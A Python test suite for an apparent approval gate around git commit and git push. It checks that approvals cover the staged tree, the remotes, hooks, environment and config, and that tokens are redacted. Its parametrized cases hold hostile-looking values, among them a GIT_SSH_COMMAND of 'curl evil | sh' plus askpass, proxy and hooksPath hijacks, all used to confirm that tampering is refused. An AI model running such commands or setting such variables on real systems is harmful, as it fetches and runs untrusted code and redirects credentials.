"""git.commit and git.push on real repositories: a work tree, a bare ``origin``, another clone."""

from __future__ import annotations

import functools
import http.server
import os
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

import jupyter_approvals as ja
from jupyter_approvals.core import errors
from jupyter_approvals.ops._preview import PREVIEW_BUDGET, TAIL_RESERVE
from jupyter_approvals.ops.git import (
    GitCommandFailed,
    GitCommitDiffers,
    git_commit,
    git_push,
    redact_url,
)

from .conftest import approve, ask, decide, request_of


def git(repo: Path, *args: str) -> str:
    """Run git as a person would in a terminal; its stdout, stripped."""
    done = subprocess.run(
        ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True
    )
    return done.stdout.strip()


def stage(repo: Path, name: str, text: str) -> None:
    (repo / name).write_text(text)
    git(repo, "add", name)


def commit(repo: Path, name: str, text: str, message: str) -> str:
    stage(repo, name, text)
    git(repo, "commit", "-q", "-m", message)
    return git(repo, "rev-parse", "HEAD")


@pytest.fixture(autouse=True)
def isolated_git(monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither the user's git config nor their identity variables reach these repositories."""
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    for name in ("AUTHOR", "COMMITTER"):
        for part in ("NAME", "EMAIL", "DATE"):
            monkeypatch.delenv(f"GIT_{name}_{part}", raising=False)
    for proxy in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.delenv(proxy, raising=False)


def new_repo(path: Path) -> Path:
    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)
    git(path, "config", "user.name", "Ada Lovelace")
    git(path, "config", "user.email", "ada@example.org")
    return path


@pytest.fixture
def origin(tmp_path: Path) -> Path:
    bare = tmp_path / "origin.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(bare)], check=True)
    return bare


@pytest.fixture
def repo(tmp_path: Path, origin: Path) -> Path:
    """A work tree with one commit, pushed to ``origin`` and tracking it."""
    work = new_repo(tmp_path / "repo")
    commit(work, "README", "hello\n", "Initial commit")
    git(work, "remote", "add", "origin", str(origin))
    git(work, "push", "-q", "-u", "origin", "main")
    return work


def clean_head(repo: Path) -> str:
    return git(repo, "rev-parse", "HEAD")


# -- git.commit ----------------------------------------------------------------------------


def test_an_approved_commit_commits_exactly_the_staged_tree_once(session, repo):
    # Given a staged change and an unstaged one
    stage(repo, "data.csv", "a,b\n1,2\n")
    (repo / "README").write_text("not staged\n")
    tree = git(repo, "write-tree")
    before = clean_head(repo)
    approve(session, lambda: git_commit("Add data", repo=str(repo)))
    # When the approved call runs
    sha = git_commit("Add data", repo=str(repo))
    # Then one commit holds exactly the staged tree, with the message, on top of the old HEAD
    assert sha == clean_head(repo)
    assert git(repo, "log", "-1", "--format=%T %P %s") == f"{tree} {before} Add data"
    assert git(repo, "diff", "--name-only") == "README"
    # And the same call again has nothing staged to commit
    with pytest.raises(errors.ApprovalInvalidArgument, match="Nothing is staged"):
        git_commit("Add data", repo=str(repo))
    # And a second commit needs a new approval
    stage(repo, "README", "not staged\n")
    ask(lambda: git_commit("Add data", repo=str(repo)))
    assert clean_head(repo) == sha


def test_the_commit_preview_shows_branch_head_author_message_and_staged_changes(session, repo):
    # Given a staged new file and a staged edit
    stage(repo, "data.csv", "a,b\n1,2\n")
    stage(repo, "README", "hello\nworld\n")
    # When the commit is asked for
    info = request_of(session, ask(lambda: git_commit("Add data\n\nWith a body", repo=repo)))
    # Then the card says where, who, what message and which changes
    preview = info.preview
    head = clean_head(repo)[:12]
    assert f"Commit the staged changes of {repo}" in preview
    assert f"branch: main   HEAD: {head}" in preview
    assert "author: Ada Lovelace <ada@example.org>" in preview
    assert "  Add data\n  \n  With a body" in preview
    assert "staged: 2 files changed, 3 insertions(+)" in preview
    assert " data.csv | 2 ++" in preview
    assert "+world" in preview
    assert info.summary == "git commit in repo: Add data"


def test_staging_more_after_the_preview_refuses_the_commit(session, repo):
    # Given an approved commit of one staged file
    stage(repo, "data.csv", "a,b\n")
    before = clean_head(repo)
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When something else is staged before the run
    stage(repo, "secrets.env", "TOKEN=x\n")
    # Then the run refuses and nothing is committed
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_commit("Add data", repo=repo)
    assert clean_head(repo) == before


def test_a_commit_made_meanwhile_refuses_the_approved_commit(session, repo):
    # Given an approved commit
    stage(repo, "data.csv", "a,b\n")
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When someone commits the same staged tree first
    git(repo, "commit", "-q", "-m", "by hand")
    # Then HEAD differs from the approved one, and the run refuses
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_commit("Add data", repo=repo)
    assert git(repo, "log", "-1", "--format=%s") == "by hand"


def test_a_rejected_commit_does_not_run(session, repo):
    # Given a staged change whose commit a person rejects
    stage(repo, "data.csv", "a,b\n")
    before = clean_head(repo)
    pending = ask(lambda: git_commit("Add data", repo=repo))
    decide(session, pending, "reject", reason="wrong file")
    # When the call is made again
    # Then it raises the rejection and nothing is committed
    with pytest.raises(ja.ApprovalRejected):
        git_commit("Add data", repo=repo)
    assert clean_head(repo) == before


def test_the_first_commit_of_a_repository(session, tmp_path):
    # Given a repository without commits and a staged file
    fresh = new_repo(tmp_path / "fresh")
    stage(fresh, "a.txt", "a\n")
    # When the commit is approved and run
    info = approve(session, lambda: git_commit("First", repo=fresh))
    sha = git_commit("First", repo=fresh)
    # Then the preview said so and the root commit exists
    assert "HEAD: no commits yet" in info.preview
    assert " a.txt | 1 +" in info.preview
    assert git(fresh, "rev-list", "--count", "HEAD") == "1"
    assert git(fresh, "rev-parse", "HEAD") == sha


@pytest.mark.parametrize(
    ("message", "where", "error"),
    [
        ("Add", "elsewhere", "is not a git work tree"),
        ("Add", "nothing staged", "Nothing is staged"),
        ("", "repo", "non-empty commit message"),
        ("  \n", "repo", "non-empty commit message"),
        (b"bytes", "repo", "non-empty commit message"),
    ],
)
def test_invalid_commits_are_refused_before_asking(session, repo, tmp_path, message, where, error):
    # Given a directory that is not a repository, or a repository with nothing staged
    if where == "repo":
        stage(repo, "x", "x\n")
    target = tmp_path / "plain" if where == "elsewhere" else repo
    target.mkdir(exist_ok=True)
    # When a commit is asked for
    # Then it is refused as invalid and no request is shown
    with pytest.raises(errors.ApprovalInvalidArgument, match=error):
        git_commit(message, repo=target)
    assert session.store.pending() == []


def test_a_hook_that_changes_the_index_is_reported(session, repo):
    # Given a pre-commit hook that stages one more file
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho sneaky > extra.txt\ngit add extra.txt\n")
    hook.chmod(0o755)
    stage(repo, "data.csv", "a,b\n")
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When the approved commit runs
    with pytest.raises(GitCommitDiffers, match="is not the approved tree") as raised:
        git_commit("Add data", repo=repo)
    # Then the commit that was made is named, and the run is recorded as failed
    assert raised.value.sha == clean_head(repo)
    assert session.store.recent(1)[0].status.value == "failed"


def test_a_hook_that_refuses_the_commit_fails_the_run(session, repo):
    # Given a pre-commit hook that refuses every commit
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\necho 'lint failed' >&2\nexit 1\n")
    hook.chmod(0o755)
    stage(repo, "data.csv", "a,b\n")
    before = clean_head(repo)
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When the approved commit runs
    # Then the hook's words are in the error, nothing is committed, and the run is failed
    with pytest.raises(GitCommandFailed, match="lint failed"):
        git_commit("Add data", repo=repo)
    assert clean_head(repo) == before
    assert session.store.recent(1)[0].status.value == "failed"


def test_the_commit_writer_refuses_outside_an_approved_run(session, repo):
    # Given a staged change
    stage(repo, "data.csv", "a,b\n")
    before = clean_head(repo)
    # When the writer is called directly, skipping the gate
    with pytest.raises(errors.ApprovalRequired):
        git_commit.fn("Add data", repo=str(repo))
    # Then nothing is committed
    assert clean_head(repo) == before


def test_the_commit_preview_stays_bounded_for_huge_changes(session, repo):
    # Given 3,000 staged files and a long message
    for i in range(3000):
        (repo / f"file_{i:05d}.txt").write_text(f"{i}\n" * 20)
    git(repo, "add", ".")
    message = "Many files\n\n" + "\n".join("x" * 1000 for _ in range(100))
    # When the commit is asked for
    preview = request_of(session, ask(lambda: git_commit(message, repo=repo))).preview
    # Then the preview fits the budget and says what it left out
    assert len(preview) <= PREVIEW_BUDGET
    assert "staged: 3000 files changed, 60000 insertions(+)" in preview
    assert "more files not shown" in preview
    assert "more message lines not shown" in preview


def test_git_location_variables_cannot_redirect_the_commit(session, repo, tmp_path, monkeypatch):
    # Given GIT_DIR pointing at another repository in the kernel's environment
    other = new_repo(tmp_path / "other")
    commit(other, "o", "o\n", "other")
    stage(repo, "data.csv", "a,b\n")
    monkeypatch.setenv("GIT_DIR", str(other / ".git"))
    # When the commit of repo is approved and run
    approve(session, lambda: git_commit("Add data", repo=repo))
    git_commit("Add data", repo=repo)
    # Then repo got the commit, the other repository did not
    monkeypatch.delenv("GIT_DIR")
    assert git(repo, "log", "-1", "--format=%s") == "Add data"
    assert git(other, "log", "-1", "--format=%s") == "other"


def test_a_missing_git_program_is_named(session, repo, tmp_path, monkeypatch):
    # Given a PATH without git
    empty = tmp_path / "empty-bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    # When a commit is asked for
    # Then the error says git is not installed
    with pytest.raises(errors.ApprovalInvalidArgument, match="git program is not installed"):
        git_commit("Add", repo=repo)


# -- git.push ------------------------------------------------------------------------------


def test_an_approved_push_sends_the_commits_once(session, repo, origin):
    # Given two local commits not on origin
    first = commit(repo, "a.txt", "a\n", "Add a")
    second = commit(repo, "b.txt", "b\n", "Add b")
    info = approve(session, lambda: git_push(repo=repo))
    # When the approved push runs
    pushed = git_push(repo=repo)
    # Then origin's main is the approved commit
    assert pushed == second
    assert git(origin, "rev-parse", "main") == second
    assert git(origin, "rev-list", "--count", "main") == "3"
    # And the preview listed both commits and the fast-forward
    assert "2 commits to push:" in info.preview
    assert f"  {second[:7]} Add b\n  {first[:7]} Add a" in info.preview
    assert f"remote: origin  {origin}" in info.preview
    assert f"main ({second[:12]}) -> origin refs/heads/main" in info.preview
    assert "fast-forward from" in info.preview
    # And pushing again has nothing to push; a new commit needs a new approval
    with pytest.raises(errors.ApprovalInvalidArgument, match="Nothing to push"):
        git_push(repo=repo)
    commit(repo, "c.txt", "c\n", "Add c")
    ask(lambda: git_push(repo=repo))
    assert git(origin, "rev-parse", "main") == second


def test_a_new_branch_is_announced(session, repo, origin):
    # Given a local branch origin does not have
    git(repo, "checkout", "-q", "-b", "feature")
    sha = commit(repo, "f.txt", "f\n", "Feature work")
    # When it is pushed with approval
    info = approve(session, lambda: git_push("origin", "feature", repo=repo))
    git_push("origin", "feature", repo=repo)
    # Then the card said it is new, listed the commit, and origin has it
    assert "new branch on the remote: origin has no branch feature now" in info.preview
    assert "1 commit not on any known branch of origin:" in info.preview
    assert "Feature work" in info.preview
    assert git(origin, "rev-parse", "feature") == sha


def test_the_remote_moving_after_the_preview_refuses_the_push(session, repo, origin, tmp_path):
    # Given an approved push of a local commit
    commit(repo, "a.txt", "a\n", "Add a")
    approve(session, lambda: git_push(repo=repo))
    # When another clone pushes to origin first
    other = tmp_path / "other"
    subprocess.run(["git", "clone", "-q", str(origin), str(other)], check=True)
    git(other, "config", "user.name", "Bob")
    git(other, "config", "user.email", "bob@example.org")
    theirs = commit(other, "b.txt", "b\n", "Their change")
    git(other, "push", "-q", "origin", "main")
    # Then the approved push refuses and origin keeps their commit only
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert git(origin, "rev-parse", "main") == theirs


def test_a_local_commit_after_the_preview_refuses_the_push(session, repo, origin):
    # Given an approved push
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When one more local commit is made
    commit(repo, "b.txt", "b\n", "Unreviewed")
    # Then the push refuses; origin is unchanged
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert git(origin, "rev-parse", "main") == before


def test_a_rejected_push_does_not_run(session, repo, origin):
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    decide(session, ask(lambda: git_push(repo=repo)), "reject", reason="not yet")
    with pytest.raises(ja.ApprovalRejected):
        git_push(repo=repo)
    assert git(origin, "rev-parse", "main") == before


def test_an_approved_commit_is_not_an_approved_push(session, repo, origin):
    # Given an approved commit request
    stage(repo, "a.txt", "a\n")
    approve(session, lambda: git_commit("Add a", repo=repo))
    before = git(origin, "rev-parse", "main")
    # When a push is attempted (after a commit made by hand)
    git(repo, "commit", "-q", "-m", "by hand")
    # Then it asks for its own approval and pushes nothing
    ask(lambda: git_push(repo=repo))
    assert git(origin, "rev-parse", "main") == before

    # And inside an approved run of git.commit the push writer still refuses
    @ja.protected("git.commit")
    def commit_and_push() -> str:
        return git_push.fn("origin", "main", repo=str(repo))

    approve(session, commit_and_push)
    with pytest.raises(errors.ApprovalRequired, match=r"git\.push"):
        commit_and_push()
    assert git(origin, "rev-parse", "main") == before


def test_the_push_writer_refuses_outside_an_approved_run(session, repo, origin):
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    with pytest.raises(errors.ApprovalRequired):
        git_push.fn("origin", "main", repo=str(repo))
    assert git(origin, "rev-parse", "main") == before


@pytest.mark.parametrize(
    ("remote", "branch", "error"),
    [
        ("nope", None, "no remote named 'nope'"),
        ("origin", "+main", "never forces"),
        ("origin", "main:other", "never forces or deletes"),
        ("origin", ":main", "never forces or deletes"),
        ("origin", "refs/heads/main", "not a valid branch name"),
        ("origin", "no-such-branch", "no local branch"),
        ("origin", "bad..name", "not a valid branch name"),
        ("-oops", None, "configured remote"),
    ],
)
def test_invalid_pushes_are_refused_before_asking(session, repo, remote, branch, error):
    commit(repo, "a.txt", "a\n", "Add a")
    with pytest.raises(errors.ApprovalInvalidArgument, match=error):
        git_push(remote, branch, repo=repo)
    assert session.store.pending() == []


def test_a_detached_head_needs_a_branch_name(session, repo):
    # Given a detached HEAD
    git(repo, "checkout", "-q", "--detach")
    # When a push of the current branch is asked for
    # Then it is refused: there is no current branch
    with pytest.raises(errors.ApprovalInvalidArgument, match="HEAD is detached"):
        git_push(repo=repo)


def test_a_non_fast_forward_push_is_refused(session, repo, origin, tmp_path):
    # Given origin moved on and this repository fetched it but did not integrate it
    other = tmp_path / "other"
    subprocess.run(["git", "clone", "-q", str(origin), str(other)], check=True)
    git(other, "config", "user.name", "Bob")
    git(other, "config", "user.email", "bob@example.org")
    commit(other, "b.txt", "b\n", "Their change")
    git(other, "push", "-q", "origin", "main")
    commit(repo, "a.txt", "a\n", "Mine")
    # When a push is asked for before and after fetching
    # Then it is refused either way, saying what to do
    with pytest.raises(errors.ApprovalInvalidArgument, match="fetch it"):
        git_push(repo=repo)
    git(repo, "fetch", "-q", "origin")
    with pytest.raises(errors.ApprovalInvalidArgument, match="Not a fast-forward"):
        git_push(repo=repo)


def test_the_push_preview_stays_bounded_for_many_commits(session, repo):
    # Given 300 local commits (made with fast-import, quickly)
    stream = []
    for i in range(300):
        stream += [
            "commit refs/heads/main",
            f"committer Ada <ada@example.org> {1_700_000_000 + i} +0000",
            f"data <<END\nCommit {i} {'y' * 100}\nEND",
        ]
        if i == 0:
            stream.append("from refs/heads/main^0")
        stream += [f"M 644 inline f{i}.txt", f"data <<END\n{i}\nEND", ""]
    subprocess.run(
        ["git", "-C", str(repo), "fast-import", "--quiet"],
        input="\n".join(stream) + "\n",
        text=True,
        check=True,
    )
    git(repo, "reset", "-q", "--hard")
    # When the push is asked for
    preview = request_of(session, ask(lambda: git_push(repo=repo))).preview
    # Then the count is exact, the list is bounded and the rest is announced
    assert "300 commits to push:" in preview
    assert "Commit 299 " in preview
    listed = [line for line in preview.splitlines() if line.startswith("  ") and "Commit " in line]
    assert f"… {300 - len(listed)} more commits not shown" in preview
    assert len(listed) <= 200
    assert len(preview) <= PREVIEW_BUDGET


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def http_origin(origin: Path) -> Iterator[str]:
    """``origin`` served read-only over git's dumb HTTP protocol by a local server."""
    git(origin, "update-server-info")
    handler = functools.partial(_Quiet, directory=str(origin))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()
    thread.join()


def test_credentials_in_the_remote_url_are_not_shown(session, repo, origin, http_origin):
    # Given a remote whose URL carries a user name and a token
    url = http_origin.replace("http://", "http://ada:s3cret-token@")
    git(repo, "remote", "add", "mirror", url)
    git(origin, "update-server-info")
    commit(repo, "a.txt", "a\n", "Add a")
    # When a push to it is asked for (it is never approved: dumb HTTP cannot receive)
    info = request_of(session, ask(lambda: git_push("mirror", repo=repo)))
    # Then the card names the host but not the credentials
    assert f"remote: mirror  {http_origin.replace('http://', 'http://***@')}" in info.preview
    assert "s3cret" not in info.preview + info.summary
    assert "fast-forward from" in info.preview


def test_credentials_are_redacted_from_git_errors(session, repo):
    # Given a remote that cannot be reached, with a token in its URL
    git(repo, "remote", "add", "away", "https://ada:s3cret-token@example.invalid/x.git")
    commit(repo, "a.txt", "a\n", "Add a")
    # When a push to it is asked for
    with pytest.raises(errors.ApprovalInvalidArgument) as raised:
        git_push("away", repo=repo)
    # Then neither the message nor the details hold the token
    assert "https://***@example.invalid/x.git" in raised.value.message
    assert "s3cret" not in str(raised.value.to_dict())


def test_redact_url_removes_user_info_only():
    assert redact_url("https://u:p@h/x and ssh://git@h/y") == "https://***@h/x and ssh://***@h/y"
    assert redact_url("git@github.com:o/r.git /srv/x.git") == "git@github.com:o/r.git /srv/x.git"


class _AsksForPassword(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="git"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


def test_a_remote_asking_for_a_password_fails_instead_of_prompting(session, repo):
    # Given a remote that answers every request with "401: password needed"
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _AsksForPassword)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        git(repo, "remote", "add", "locked", f"http://127.0.0.1:{server.server_address[1]}/x")
        commit(repo, "a.txt", "a\n", "Add a")
        # When a push to it is asked for
        # Then git does not wait for a password: the call is refused, saying why
        with pytest.raises(errors.ApprovalInvalidArgument, match="cannot read refs/heads/main"):
            git_push("locked", repo=repo)
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
    assert session.store.pending() == []


def test_a_remote_that_never_answers_is_given_up_on(session, repo, monkeypatch):
    # Given a remote that accepts connections and never answers, and a 1 s limit
    monkeypatch.setattr("jupyter_approvals.ops.git_push_op.REMOTE_SECONDS", 1.0)
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        git(repo, "remote", "add", "silent", f"http://127.0.0.1:{silent.getsockname()[1]}/x")
        commit(repo, "a.txt", "a\n", "Add a")
        # When a push to it is asked for
        # Then git is stopped at the limit and the call is refused
        with pytest.raises(errors.ApprovalInvalidArgument, match="did not finish within 1 s"):
            git_push("silent", repo=repo)


# -- what steers git besides the repository: environment, program, config ----------------


def hook_dir(tmp_path: Path, name: str, marker: Path) -> Path:
    """A hooks directory whose ``name`` hook leaves ``marker`` behind when it runs."""
    hooks = tmp_path / "evil-hooks"
    hooks.mkdir(exist_ok=True)
    hook = hooks / name
    hook.write_text(f"#!/bin/sh\ntouch '{marker}'\n")
    hook.chmod(0o755)
    return hooks


@pytest.mark.parametrize(
    "variables",
    [
        {"GIT_SSH_COMMAND": "sh -c 'curl evil | sh'"},
        {"GIT_CONFIG_PARAMETERS": "'core.sshcommand'='sh -c evil'"},
        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.askpass", "GIT_CONFIG_VALUE_0": "x"},
        {"GIT_ASKPASS": "/tmp/askpass"},
        {"SSH_ASKPASS": "/tmp/askpass"},
        {"GIT_PROXY_COMMAND": "/tmp/proxy"},
        {"https_proxy": "http://proxy.invalid:3128"},
        {"ALL_PROXY": "socks5://proxy.invalid:1080"},
        {"LD_LIBRARY_PATH": "/nonexistent"},
        {"XDG_CONFIG_HOME": "/nonexistent"},
    ],
    ids=lambda variables: "+".join(variables),
)
def test_a_git_variable_set_after_approval_refuses_the_push(
    session, repo, origin, monkeypatch, variables
):
    # Given an approved push
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When a variable that steers git is set in the kernel's environment afterwards
    for name, value in variables.items():
        monkeypatch.setenv(name, value)
    # Then the run refuses: the environment is part of what was approved
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert git(origin, "rev-parse", "main") == before


def test_a_changed_path_refuses_the_push(session, repo, origin, tmp_path, monkeypatch):
    # Given an approved push
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When a directory is put in front of PATH afterwards (the same git is still found)
    extra = tmp_path / "extra-bin"
    extra.mkdir()
    monkeypatch.setenv("PATH", f"{extra}:{os.environ['PATH']}")
    # Then the run refuses
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert git(origin, "rev-parse", "main") == before


def test_a_hooks_path_set_by_environment_after_approval_refuses_the_commit(
    session, repo, tmp_path, monkeypatch
):
    # Given an approved commit
    stage(repo, "data.csv", "a,b\n")
    before = clean_head(repo)
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When core.hooksPath is pointed at another hook through GIT_CONFIG_COUNT/KEY/VALUE
    marker = tmp_path / "hook-ran"
    hooks = hook_dir(tmp_path, "pre-commit", marker)
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.hooksPath")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(hooks))
    # Then the run refuses, the hook never runs and nothing is committed
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_commit("Add data", repo=repo)
    assert not marker.exists()
    assert clean_head(repo) == before


def test_a_hooks_path_configured_after_approval_refuses_the_push(session, repo, origin, tmp_path):
    # Given an approved push
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When the repository's config points core.hooksPath at a pre-push hook
    marker = tmp_path / "hook-ran"
    git(repo, "config", "core.hooksPath", str(hook_dir(tmp_path, "pre-push", marker)))
    # Then the run refuses and the hook never runs
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert not marker.exists()
    assert git(origin, "rev-parse", "main") == before


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("remote.origin.receivepack", "git-receive-pack"),
        ("url.file:///elsewhere.insteadOf", "file:///nowhere"),
        ("credential.helper", "store"),
    ],
)
def test_remote_config_changed_after_approval_refuses_the_push(session, repo, origin, key, value):
    # Given an approved push
    commit(repo, "a.txt", "a\n", "Add a")
    before = git(origin, "rev-parse", "main")
    approve(session, lambda: git_push(repo=repo))
    # When config that steers where or how the push goes is added (the URL itself unchanged)
    git(repo, "config", key, value)
    # Then the run refuses
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_push(repo=repo)
    assert git(origin, "rev-parse", "main") == before


def test_a_changed_git_program_refuses_the_commit(session, repo, tmp_path, monkeypatch):
    # Given a git on PATH that is a wrapper around the real one, and an approved commit
    real = shutil.which("git")
    assert real is not None
    wrapper_dir = tmp_path / "wrapper-bin"
    wrapper_dir.mkdir()
    wrapper = wrapper_dir / "git"
    wrapper.write_text(f'#!/bin/sh\nexec "{real}" "$@"\n')
    wrapper.chmod(0o755)
    monkeypatch.setenv("PATH", f"{wrapper_dir}:{os.environ['PATH']}")
    stage(repo, "data.csv", "a,b\n")
    before = clean_head(repo)
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When the program at the same path is replaced afterwards by one that logs its arguments
    log = tmp_path / "wrapper.log"
    wrapper.write_text(f'#!/bin/sh\necho "$@" >> \'{log}\'\nexec "{real}" "$@"\n')
    # Then the run refuses before committing: the new program only read the repository
    with pytest.raises(errors.ApprovalFingerprintMismatch):
        git_commit("Add data", repo=repo)
    assert log.exists()
    assert " commit " not in log.read_text()
    assert clean_head(repo) == before


def test_the_cards_name_the_git_variables_that_are_set(session, repo, monkeypatch):
    # Given git-steering variables in the kernel's environment, one with a secret-looking name
    monkeypatch.setenv("GIT_SSH_COMMAND", "ssh -i /keys/deploy")
    monkeypatch.setenv("GIT_ACCESS_TOKEN", "s3cret-token")
    monkeypatch.setenv("https_proxy", "http://ada:s3cret-pw@proxy.example:3128")
    monkeypatch.setenv(
        "GIT_CONFIG_PARAMETERS",
        "'core.sshcommand'='ssh -v' 'http.extraheader'='Authorization: s3cret'",
    )
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "http.extraHeader")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", "Authorization: Bearer s3cret")
    commit(repo, "a.txt", "a\n", "Add a")
    stage(repo, "b.txt", "b\n")
    # When a push and a commit are asked for
    cards = [
        request_of(session, ask(lambda: git_push(repo=repo))).preview,
        request_of(session, ask(lambda: git_commit("Add b", repo=repo))).preview,
    ]
    # Then each card lists them, without any secret, and leaves out the ordinary ones
    for preview in cards:
        assert "  environment: GIT_SSH_COMMAND=ssh -i /keys/deploy" in preview
        assert "  environment: GIT_ACCESS_TOKEN (value hidden)" in preview
        assert "  environment: https_proxy=http://***@proxy.example:3128" in preview
        assert (
            "  environment: GIT_CONFIG_PARAMETERS sets core.sshcommand=ssh -v, "
            "http.extraheader (value hidden)" in preview
        )
        assert "  environment: GIT_CONFIG_KEY_0=http.extraHeader" in preview
        assert "  environment: GIT_CONFIG_VALUE_0 (value hidden)" in preview
        assert "s3cret" not in preview
        assert "environment: PATH" not in preview
        assert "environment: GIT_CONFIG_GLOBAL=/dev/null" in preview


# -- commit messages are compared exactly -------------------------------------------------


@pytest.mark.parametrize(
    "message",
    ["Fix thing  ", "Fix thing\n\n", "  Indented subject\n\nbody with tab\t\n\n\n", "Tab\t"],
)
def test_a_message_with_surrounding_whitespace_is_committed_verbatim(session, repo, message):
    # Given a staged change and a message that ends (or starts) with whitespace
    stage(repo, "data.csv", "a,b\n")
    approve(session, lambda: git_commit(message, repo=repo))
    # When the approved commit runs
    sha = git_commit(message, repo=repo)
    # Then it succeeds and the message is stored exactly (git adds one newline if none)
    raw = subprocess.run(
        ["git", "-C", str(repo), "cat-file", "commit", sha], check=True, capture_output=True
    ).stdout
    expected = message if message.endswith("\n") else message + "\n"
    assert raw.split(b"\n\n", 1)[1] == expected.encode()


def test_a_hook_that_only_adds_trailing_whitespace_is_reported(session, repo):
    # Given a commit-msg hook that appends spaces to the message's last line
    hook = repo / ".git" / "hooks" / "commit-msg"
    hook.write_text("#!/bin/sh\nprintf 'Add data   \\n' > \"$1\"\n")
    hook.chmod(0o755)
    stage(repo, "data.csv", "a,b\n")
    approve(session, lambda: git_commit("Add data", repo=repo))
    # When the approved commit runs
    # Then the changed message is reported
    with pytest.raises(GitCommitDiffers, match="its message is not the approved message"):
        git_commit("Add data", repo=repo)


# -- previews use their whole budget --------------------------------------------------------


def test_the_commit_preview_fills_its_budget_before_cutting(session, repo):
    # Given far more staged files than a card can list
    for i in range(2000):
        (repo / f"f{i:05d}.txt").write_text("x\n")
    git(repo, "add", ".")
    # When the commit is asked for
    preview = request_of(session, ask(lambda: git_commit("Many", repo=repo))).preview
    # Then the listing runs up to the budget less PreviewText's own reserve for its closing lines
    kept = preview.split("\n… ", 1)[0]
    assert PREVIEW_BUDGET - TAIL_RESERVE - 100 < len(kept) <= PREVIEW_BUDGET - TAIL_RESERVE
    assert len(preview) <= PREVIEW_BUDGET
